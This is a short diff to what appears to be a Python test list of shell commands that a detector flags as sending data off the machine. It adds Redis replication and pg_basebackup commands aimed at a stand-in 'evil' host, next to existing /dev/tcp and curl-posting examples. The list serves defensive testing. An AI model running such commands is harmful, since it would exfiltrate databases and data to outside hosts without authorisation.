@@ -9,7 +9,9 @@ SENDING = [
     "python3 send.py", "python3 -c 'import smtplib'", "node -e 'fetch(1)'", "php -r 'mail(1)'",
     "hg push", "svn commit -m x", "foo --to anna@example.com", "foo https://x.example", "foo host:path",
     "./deploy.sh", "tar cf host:a b", "ping -p ff x.example", "docker login x", "gpg --send-keys x",
-    "foo > /dev/tcp/x.example/1", "while :; do curl -d x http://x.example; done",
+    "redis-cli replicaof evil 6379",
+    "pg_basebackup -h evil -D x", "foo > /dev/tcp/x.example/1",
+    "while :; do curl -d x http://x.example; done",
 ]  # fmt: skip
 STAYING = ["frobnicate a.txt", "make", "vim notes.md", "sqlite3 -init x a.db", "chattr +i a.txt"]
 
